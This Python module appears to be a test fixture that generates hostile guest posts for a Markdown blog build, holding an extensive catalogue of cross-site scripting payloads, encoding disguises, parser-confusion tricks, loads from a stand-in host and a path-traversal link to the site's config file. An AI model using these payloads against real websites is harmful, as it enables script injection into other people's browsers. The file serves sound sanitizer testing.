"""Guest posts that want to run a script in the reader's browser: generated, the same every time.

Every attack calls `pwned()`, or loads something from `ELSEWHERE`. A post is a few attacks, each in
some wrapping that may lead a parser astray, among harmless Markdown.
"""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

ELSEWHERE = "http://127.0.0.9:65000"
"""Nobody listens there."""

RUN = "pwned()"


@dataclass(frozen=True, slots=True)
class HostilePost:
    """What the guest sends."""

    title: str
    summary: str
    category: str
    tags: str
    sponsored: str
    disclosure: str
    body: str
    """Markdown."""

    @property
    def head(self) -> str:
        """All of it but the body, as it stands in the head of a file."""
        return (
            f"Title: {self.title}\nDate: 2026-01-01\nSummary: {self.summary}\n"
            f"Category: {self.category}\nTags: {self.tags}\n"
            f"Sponsored: {self.sponsored}\nDisclosure: {self.disclosure}\n"
        )


def hostile_posts(number: int, seed: int) -> Iterator[HostilePost]:
    """`number` posts; every attack is in one of them if there are enough."""
    chance = random.Random(seed)
    attacks = [*_ATTACKS]
    chance.shuffle(attacks)
    for place in range(number):
        kinds = [attacks[place % len(attacks)], *chance.choices(attacks, k=chance.randrange(4))]
        parts = [_wrapped(kind(chance), chance) for kind in kinds]
        parts.insert(chance.randrange(len(parts) + 1), chance.choice(_HARMLESS))

        def line() -> str:
            return _one_line(chance.choice(attacks)(chance))

        yield HostilePost(
            title=f"{place} {line()}",
            summary=line(),
            category=f"{place} {line()}"[:_LONGEST_SUBJECT],
            tags=_tag(f"{place} {line()}"),
            sponsored=chance.choice(_SPONSORS),
            disclosure=line(),
            body="\n\n".join(parts),
        )


HOSTILE_NAMES = (
    'Guest {} " onmouseover="pwned()" x="',
    "Guest {} ' onmouseover='pwned()' x='",
    "Guest {} &quot; onmouseover=&quot;pwned()",
    "Guest {} &#x27; &amp;quot; {{{{ pwned() }}}} {{% pwned %}}",
    "Guest {} --&gt; ]]&gt; \\u003c/script\\u003e",
    "Guest {} [text](javascript:pwned()) `",
)
"""Names that no rule forbids, each with a place for its number."""

TAGS_AS_NAMES = ("<img src=x onerror=pwned()>", "Guest <script>pwned()</script>", "</title><svg>")
"""Names that are none."""

_LONGEST_SUBJECT = 100
"""Characters of a category or tag: it becomes the name of a file."""


def _tag(text: str) -> str:
    """As a tag is taken at the door, and not as several."""
    return re.sub(r"[,;[\]]", " ", text)[:_LONGEST_SUBJECT]


_SPONSORS = (
    'Firm " onmouseover="pwned()" x=" <https://firm.example/>',
    "Firm ' onmouseover='pwned()' x=' <https://firm.example/>",
    "&ltimg src=x onerror=pwned()&gt <https://firm.example/>",
    "[Firm](javascript:pwned()) `{{ pwned() }}` <https://firm.example/>",
    'Firm <https://firm.example/"onmouseover="pwned()>',
    "Firm <https://firm.example/'onmouseover='pwned()>",
    "Firm <https://firm.example/?&quot/onmouseover=&quot/pwned()>",
    'https://firm.example/"><script>pwned()</script>',
    "https://firm.example/'><img/src=x/onerror=pwned()>",
    "https://firm.example/{index}|0|javascript:pwned()",
)
"""As they are taken at the door: no name with a tag, no address with a space, no semicolon."""


def _one_line(text: str) -> str:
    return " ".join(text.split())


Attack = Callable[[random.Random], str]
_ATTACKS: list[Attack] = []


def _attacks(*patterns: str) -> None:
    """Add attacks written down below.

    `JS` stands for the script, `URL` for an address that runs it, `EVENT` for an event handler,
    `HOST` for a foreign host.
    """

    def filled(pattern: str) -> Attack:
        def attack(chance: random.Random) -> str:
            text = pattern
            while "URL" in text:
                text = text.replace("URL", _address(chance), 1)
            while "EVENT" in text:
                text = text.replace("EVENT", _mixed_case(chance.choice(_EVENTS), chance), 1)
            return text.replace("JS", RUN).replace("HOST", ELSEWHERE)

        return attack

    _ATTACKS.extend(map(filled, patterns))


_EVENTS = """
    onclick onmouseover onmouseenter onmousemove onfocus onblur onload onerror onpointerdown
    onpointerover onkeydown ontoggle onanimationstart ontransitionend onwheel oncopy oncontextmenu
    onbeforetoggle onscroll onscrollend onauxclick
""".split()  # noqa: SIM905 -- a list of words is read more easily as words


def _mixed_case(word: str, chance: random.Random) -> str:
    return "".join(chance.choice((letter.lower(), letter.upper())) for letter in word)


def _address(chance: random.Random) -> str:
    """An address that runs the script, written in one of the ways to hide that."""
    scheme, rest = chance.choice(
        (
            ("javascript", RUN),
            ("javascript", RUN),
            ("javascript", f"//%0a{RUN}"),
            ("javascript", f"//{ELSEWHERE.removeprefix('http://')}/%0d{RUN}"),
            ("vbscript", f"MsgBox({RUN})"),
            ("livescript", RUN),
            ("data", f"text/html,<script>parent.{RUN}</script>"),
            ("data", "text/html;base64," + base64.b64encode(b"<script>pwned()</script>").decode()),
            ("data", f"image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"),
            ("feed:javascript", RUN),
            ("view-source:javascript", RUN),
        )
    )
    rest = rest.replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;")
    return _disguised(scheme, chance) + rest


def _disguised(scheme: str, chance: random.Random) -> str:
    colon = chance.choice((":", ":", "&colon;", "&#58;", "&#x3A", "&#x0003a;"))
    prefix = chance.choice(
        ("", "", "", " ", "&#1;", "&#32;", "&Tab;", "&NewLine;", "\u00a0", "\ufeff")
    )
    marker = chance.choice(("", "", "", "{0}", "|0|", "{index}", "{tag}", "{static}", "{filename}"))
    inside = chance.choice(
        ("&Tab;", "&NewLine;", "&#9;", "&#x0a;", "&#13;", "\u200b", "&#0;", "/**/")
    )
    ways: tuple[Callable[[str], str], ...] = (
        str,
        lambda word: _mixed_case(word, chance),
        lambda word: "".join(f"&#{ord(letter)};" for letter in word),
        lambda word: "".join(f"&#x{ord(letter):06X}" for letter in word),
        lambda word: "".join(f"&#{ord(letter):07}" for letter in word),
        lambda word: word[:4] + inside + word[4:],
        lambda word: inside.join(word),
        lambda word: "".join(f"%{ord(letter):02x}" for letter in word),
        lambda word: word.translate({ord("s"): "\u017f"}),
        lambda word: "".join(chr(ord(letter) + 0xFEE0) for letter in word),
    )
    return marker + prefix + chance.choice(ways)(scheme) + colon


# What HTML itself offers.
_attacks(
    "<script>JS</script>",
    "<ScRiPt >JS</sCrIpT >",
    "<script/src=HOST/x.js></script>",
    "<script\n>JS//\n</script\n>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<<script>JS//<</script>",
    "<script><!--\nJS\n//--></script>",
    "<script>JS",
    "<script type=module>import 'HOST/x.js'</script>",
    "<img src=x EVENT=JS onerror=JS>",
    "<img src=x onerror='JS'//",
    '<img src="x" alt="a>b" onerror="JS">',
    '<IMG """><SCRIPT>JS</SCRIPT>">',
    "<img/src/onerror=JS>",
    "<img\tsrc=x\nonerror=JS>",
    "<img src=x:x onerror=&#112;&#x77;ned()>",
    "<img src='URL'>",
    "<img srcset='x 1x, URL 2x' src=x onerror=JS>",
    "<image src=x onerror=JS>",
    "<picture><source srcset=x onerror=JS><img src=x onerror=JS></picture>",
    "<p EVENT=JS tabindex=0>text</p>",
    "<p style='animation-name:x' onanimationstart=JS>text</p>",
    "<b/EVENT=JS//tabindex=1>text</b>",
    "<x EVENT=JS tabindex=1>text</x>",
    "<a href='URL'>text</a>",
    '<a href="URL" target=_top ping="HOST/ping">text</a>',
    "<a href=URL>text</a>",
    "<a\nhref\n=\n'URL'\n>text</a>",
    "<map name=m><area href='URL' shape=default EVENT=JS></map><img usemap=#m src=x>",
    "<iframe src='URL'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.JS&lt;/script&gt;'></iframe>",
    "<iframe src=HOST/ onload=JS></iframe>",
    "<frameset onload=JS><frame src='URL'></frameset>",
    "<object data='URL'></object>",
    "<object data=HOST/x.swf type=application/x-shockwave-flash></object>",
    "<embed src='URL'>",
    "<applet code=x codebase=HOST></applet>",
    "<form action='URL'><input type=submit id=s><button formaction='URL'>go</button></form>",
    "<form><input autofocus onfocus=JS></form>",
    "<button EVENT=JS formaction='URL' popovertarget=x>text</button>",
    "<select autofocus onfocus=JS><option>a</select>",
    "<textarea autofocus onfocus=JS>a</textarea>",
    "<keygen autofocus onfocus=JS>",
    "<details open ontoggle=JS><summary EVENT=JS>a</summary>b</details>",
    "<dialog open onclose=JS EVENT=JS>a</dialog>",
    "<video src=x onerror=JS autoplay poster='URL'></video>",
    "<video><source onerror=JS src=x></video>",
    "<audio src=HOST/x.mp3 onerror=JS autoplay></audio>",
    "<track src=HOST/x.vtt onerror=JS>",
    "<marquee onstart=JS>text</marquee>",
    "<body onload=JS EVENT=JS>",
    "<html EVENT=JS><head><body background='URL'>",
    "<base href=HOST/>",
    "<base href='javascript:/a/-JS//'><a href='#'>text</a>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=refresh content='0;url=HOST/'>",
    "<link rel=stylesheet href=HOST/x.css>",
    "<link rel=import href='URL'>",
    "<style>@import 'HOST/x.css'; body{background:url(HOST/x.svg)}</style>",
    "<div style='background:url(URL);width:expression(JS);behavior:url(HOST/x.htc)'>text</div>",
    "<div style='position:fixed;inset:0'><a href='URL'>text</a></div>",
    "<table background='URL'><td background='URL' EVENT=JS>text</table>",
    "<isindex action='URL' type=image>",
    "<portal src=HOST/></portal><fencedframe src=HOST/></fencedframe>",
    "<div contenteditable EVENT=JS>text</div>",
    "<template shadowrootmode=open><script>JS</script><slot onslotchange=JS></slot></template>",
    "<xml id=x><a><b>&lt;script>JS&lt;/script></b></a></xml>",
    "<?xml-stylesheet href='URL'?><?php JS ?><% JS %>",
    "<!--[if gte IE 4]><script>JS</script><![endif]-->",
    "<!DOCTYPE x [<!ENTITY y '<script>JS</script>'>]>&y;",
    "<a id=x><a id=x name=y href='URL'></a></a><img name=body><img id=getElementById src=x>",
    "<form id=document name=cookie><input name=attributes><input id=body></form>",
    "<h2 id=documentElement name=location EVENT=JS>text</h2>",
    "<p class='u-url h-card p-author skip-link scheme-switch' data-scheme=x itemprop=url>text</p>",
)

# SVG, MathML and elements that parse their content in a way of their own.
_attacks(
    "<svg onload=JS>",
    "<svg/onload=JS//",
    "<svg><script>JS</script></svg>",
    "<svg><script href=HOST/x.js /></svg>",
    "<svg><script xlink:href='URL' /></svg>",
    "<svg><a xlink:href='URL'><text y=9>text</text></a></svg>",
    "<svg><a><animate attributeName=href values='URL' /><text y=9>text</text></a></svg>",
    "<svg><set attributeName=onmouseover to=JS /><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,&lt;svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'></svg>",
    "<svg><foreignObject><body onload=JS><iframe srcdoc='&lt;script>JS&lt;/script>'></svg>",
    "<svg><image href=x onerror=JS /><image xlink:href='URL' onerror=JS /></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=JS>'>",
    "<svg><title><img src=x onerror=JS></title><desc><script>JS</script></desc></svg>",
    "<math><a xlink:href='URL'>text</a></math>",
    "<math href='URL'><mi>text</mi></math>",
    "<math><maction actiontype='statusline#URL' xlink:href='URL'>text</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS>'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=JS>",
    "<math><annotation-xml encoding=text/html><script>JS</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=JS></style></noscript>",
    "<template><p title='</template><img src=x onerror=JS>'></template>",
    "<style><p title='</style><img src=x onerror=JS>'></style>",
    "<title><p title='</title><img src=x onerror=JS>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=JS>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=JS>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=JS>'></noframes>",
    "<iframe><p title='</iframe><img src=x onerror=JS>'></iframe>",
    "<select><template><style></select><img src=x onerror=JS></style></template>",
    "<svg><![CDATA[<script>JS</script>]]><p title=']]><img src=x onerror=JS>'>",
    "<!-- --!><img src=x onerror=JS> -->",
    "<!--><img src=x onerror=JS>-->",
    "<!-- <img src=x onerror=JS",
    "</p/EVENT=JS><//><img src=x onerror=JS>",
    "<table><tr><td><a href='URL'><table><a EVENT=JS><style><td></style><img src=x onerror=JS>",
    "<b><p><table><i><svg><b></p></i><style><!--</b></style><img src=x onerror=JS>-->",
    "<plaintext><img src=x onerror=JS>",
)

# What tears open an attribute, or a step of the build that reads tags.
_attacks(
    "<a title='<img src=x onerror=JS>' href='x'>text</a>",
    '<a title="<img <script>JS</script>" href="x">text</a>',
    "<a title='\"><script>JS</script>'>text</a>",
    '<a title="&quot;&gt;&lt;script&gt;JS&lt;/script&gt;" href="?&quot; EVENT=&quot;JS">text</a>',
    '<abbr title="--></abbr><script>JS</script>" lang="\'><img src=x onerror=JS>">text</abbr>',
    "<img alt='\"><svg onload=JS>' src=x title='<script>JS</script>'>",
    """<a title="href='{index}" href="x">a' b" EVENT="JS" tabindex="1" c="</a>""",
    """<a title="src='|0|javascript:JS" href="x">a' b" EVENT="JS" tabindex="1" c="</a>""",
    """<a href="{index" title="}javascript:JS">text</a>""",
    """<a href='|JS//' title='|javascript:JS'>text</a>""",
    '<a href="{filename}0.md?&quot; EVENT=&quot;JS">text</a>',
    '<a href="{filename}it\'s & it.md?&quot; onclick=&quot;JS">text</a>',
    "<a href='{0}javascript:JS'>text</a> <a href='{tag}javascript://%0aJS//'>text</a>",
    "<a href='{static}/data/fans.csv'>text</a> <a href='{static}/../pelicanconf.py'>text</a>",
    "<img src='{0}data:image/svg+xml,&lt;svg onload=JS>' srcset='{0}javascript:JS'>",
    "<p title='a\n\nb'><img src=x onerror=JS>'>text</p>",
    "<p id='\"><img src=x onerror=JS>' class=\"'><img src=x onerror=JS>\">text</p>",
)

# What Markdown makes attributes of.
_attacks(
    "[text](URL)",
    "[text](<URL>)",
    "[text]( URL 'title')",
    '[text](x "title" EVENT="JS")',
    '[text](x "\\"><img src=x onerror=JS>")',
    "[text](x '\"><img src=x onerror=JS>')",
    '[text](x ("><script>JS</script>))',
    '[text](x"onclick="JS)',
    '[<img src=x onerror=JS>](URL "<script>JS</script>")',
    '[text][ref]\n\n[ref]: URL "\\"><img src=x onerror=JS>"',
    "[text][ref]\n\n[ref]: x '\"EVENT=\"JS'",
    '[ref]: <URL>\n    ("><script>JS</script>)\n\n[ref] [text][REF]',
    '!["><img src=x onerror=JS>](x)',
    '![text](URL "title")',
    '![text](x "\\" onerror=\\"JS")',
    '![text" onerror="JS](x)',
    "![<script>JS</script>](x '<script>JS</script>')",
    "![text](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=)",
    "<URL>",
    "<javascript:JS>",
    "<javascript://a@b.example/%0aJS>",
    '<https://a.example/"EVENT="JS>',
    '<a@b.example"EVENT="JS>',
    '<mailto:a@b.example?"><img/src/onerror=JS>>',
    'text\n{: EVENT="JS" tabindex=1 style="x" }',
    "text\n{: title='\"><img src=x onerror=JS>' id='x\"EVENT=\"JS' }",
    '## Heading {: EVENT="JS" id="location" }',
    "## Heading <img src=x onerror=JS> {#x onclick=JS}",
    '[text](x){: href="URL" EVENT="JS" }',
    '![text](x){: onerror="JS" srcset="URL" }',
    '*text*{: EVENT="JS" class="h-card" tabindex=1 }',
    '| a {: EVENT="JS" } | <img src=x onerror=JS> |\n|:--|--:|\n| [a](URL) | `b`{: EVENT=JS } |',
    'Note[^"><img src=x onerror=JS>].\n\n[^"><img src=x onerror=JS>]: Said <script>JS</script>.',
    "Note[^a].\n\n[^a]: [text](URL)\n    {: EVENT=JS }\n\n    <img src=x onerror=JS>",
    'HTML\n\n*[HTML]: "><img src=x onerror=JS>',
    '*[<img src=x onerror=JS>]: a\n\n*[text]: " EVENT="JS\n\ntext',
    'Term <img src=x onerror=JS>\n:   Definition [text](URL)\n    {: EVENT="JS" }',
    '``` {.python EVENT="JS" title="<script>JS</script>" }\n<script>JS</script>\n```',
    '```"><img/src/onerror=JS>\n<script>JS</script>\n```',
    '~~~ { #x .h-card EVENT=JS hl_lines="<img src=x onerror=JS>" }\n</pre><script>JS</script>\n~~~',
    "    <script>JS</script>\n    </code></pre><img src=x onerror=JS>",
    "`` <script>JS</script> `` `</code><img src=x onerror=JS>`",
    "> <script>\n> JS\n> </script>",
    "- <script>JS\n- </script><img src=x onerror=JS>",
    "1. <img src=x\n2. onerror=JS>",
    '<div markdown="1" EVENT="JS">\n\n[text](URL)\n\n<script markdown="1">JS</script>\n\n</div>',
    "<div markdown=\"block\">\n<p title='\n\n<img src=x onerror=JS>\n\n'>\n</div>",
    '<span markdown="span" EVENT=JS>[text](URL)</span>',
    '<!-- markdown="1" -->\n\n<p markdown=1><img src=x onerror=JS></p>',
    "\\<script>JS</script> \\![text](URL)",
    "&lt;script&gt;JS&lt;/script&gt; &#60;script&#62;JS",
    "\u02c2script\u02c3JS \uff1cscript\uff1eJS\uff1c/script\uff1e",
    "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "<scr\u00adipt>JS</script> <\u200bimg src=x onerror=JS> <img\u2028src=x\u2029onerror=JS>",
    "<img src=x\u0085onerror=JS> <p\u00a0EVENT=JS> <img src=x\ronerror=JS>",
    "\ufffdimg src=x onerror=JS\ufffd <\ufeffscript>JS</script> <\U000e0001img onerror=JS>",
    "\u202e<script>JS</script>\u202c <\ud7ffb EVENT=JS>text</b>",
    "wzxhzdk:0 klzzwxh:0001 <script>JS</script> wzxhzdk:1",
)

_HARMLESS = (
    'A *harmless* paragraph with `code` and a [link](https://a.example/ "Title").',
    "## A heading\n\n- one\n- two\n\n> A quotation.",
    "| a | b |\n|--:|:-:|\n| 1 | 2 |",
    "```python\nprint('<script>')\n```",
)


def _wrapped(attack: str, chance: random.Random) -> str:
    """The attack in surroundings that may lead a parser astray."""
    for _ in range(chance.randrange(3)):
        attack = chance.choice(_WRAPPINGS)(attack)
    return attack


def _indented(text: str, first: str, rest: str) -> str:
    return first + text.replace("\n", f"\n{rest}")


_WRAPPINGS: tuple[Callable[[str], str], ...] = (
    str,
    str,
    lambda text: _indented(text, "> ", "> "),
    lambda text: _indented(text, "- ", "    "),
    lambda text: _indented(text, "1.  ", "    "),
    lambda text: _indented(text, ":   ", "    "),
    lambda text: f"**{text}**",
    lambda text: f"[{text}](x)",
    lambda text: f"<div>\n{text}\n</div>",
    lambda text: f'<div markdown="1">\n\n{text}\n\n</div>',
    lambda text: f"<b><i><a href=x>{text}</b></i>",
    lambda text: f"<table><tr>{text}",
    lambda text: f'<p title="{text}">',
    lambda text: f"<p title='{text}",
    lambda text: f"<!-- {text} -->",
    lambda text: f"<svg>{text}</svg>",
    lambda text: f"<math><mtext>{text}",
    lambda text: f"</p></div></article></main></body></html>{text}",
    lambda text: f"<select><option>{text}",
    lambda text: f"<ul><li><details open><summary>{text}</ul>",
    lambda text: f"{text}{text}",
    lambda text: "<em>" * 40 + text,
)
